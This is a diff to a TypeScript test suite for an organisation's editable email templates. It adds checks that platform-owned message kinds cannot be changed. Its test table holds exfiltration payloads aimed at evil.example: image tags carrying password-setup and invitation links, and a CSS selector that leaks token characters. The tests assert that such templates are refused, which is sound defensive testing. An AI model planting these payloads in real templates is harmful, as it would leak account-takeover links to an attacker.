@@ -1,7 +1,7 @@
 import { eventually, Fixtures, Person, SmtpSink, TestApp } from '@tessera/testing';
 import { newId } from '@tessera/common';
 import { Organization } from '../src/identity/entities/organization.entity';
-import { MessageKind } from '../src/notifications/message-kinds';
+import { MessageKind, PLATFORM_KINDS } from '../src/notifications/message-kinds';
 import { MessageTemplatesService } from '../src/notifications/message-templates.service';
 
 const TEMPLATES = `query($org: UUID!) { messageTemplates(organizationId: $org) { kind subject isDefault variables updatedAt } }`;
@@ -22,7 +22,9 @@ describe('message templates: edited at run time, previewed, refused when broken'
 
   it('lists every kind with its default text and variables, and never offers an admin comment', async () => {
     const { messageTemplates } = await admin.client.ok(TEMPLATES, { org: organization.id });
-    expect(messageTemplates.map((m: { kind: string }) => m.kind)).toEqual(Object.values(MessageKind));
+    expect(messageTemplates.map((m: { kind: string }) => m.kind)).toEqual(
+      Object.values(MessageKind).filter((kind) => !PLATFORM_KINDS.has(kind)),
+    );
     expect(messageTemplates.every((m: { isDefault: boolean }) => m.isDefault)).toBe(true);
     const codeSent = messageTemplates.find((m: { kind: string }) => m.kind === 'CODE_SENT');
     expect(codeSent.variables).toEqual(expect.arrayContaining(['code', 'message', 'product.name', 'recipient.firstName']));
@@ -92,6 +94,19 @@ describe('message templates: edited at run time, previewed, refused when broken'
     expect(messageTemplates.find((m: { kind: string }) => m.kind === 'CODE_SENT').isDefault).toBe(true);
   });
 
+  it.each(['SET_PASSWORD', 'GUESSING_LIMIT_REACHED'])('keeps Tessera’s own %s text out of the organisation’s hands', async (kind) => {
+    const input = { organizationId: organization.id, kind, subject: 'S', html: '<p>x</p>', text: 'x' };
+    for (const [operation, variables] of [
+      [UPDATE, { input }],
+      [PREVIEW, { input: { organizationId: organization.id, kind } }],
+      [RESET, { input: { organizationId: organization.id, kind } }],
+    ] as const) {
+      const error = await admin.client.fails(operation, variables);
+      expect(error.code).toBe('BAD_USER_INPUT');
+      expect(error.extensions?.fields).toEqual([expect.objectContaining({ field: 'kind' })]);
+    }
+  });
+
   it('lets only the organisation’s admins see and change its texts', async () => {
     const { person } = await new Fixtures(t).member(organization);
     expect((await person.client.fails(TEMPLATES, { org: organization.id })).code).toBe('FORBIDDEN');
@@ -136,7 +151,7 @@ describe('account links cannot leave through an organisation’s template (findi
   it.each([
     ['the link inside an image address', 'ACCOUNT_CREATED', '<img src="https://evil.example/c?{{setPasswordUrl}}">'],
     ['the invitation link inside an image address', 'INVITATION', '<img src="https://evil.example/c?{{acceptUrl}}">'],
-    ['a style sheet that reads the link', 'SET_PASSWORD', '<style>a[href*="token=A"]{background:url(https://evil.example/A)}</style>'],
+    ['a style sheet that reads the link', 'ACCOUNT_CREATED', '<style>a[href*="token=A"]{background:url(https://evil.example/A)}</style>'],
     ['a decorator', 'ACCOUNT_CREATED', '{{* decorator}}'],
   ])('refuses %s when saved', async (_, kind, html) => {
     const error = await save(kind, html);
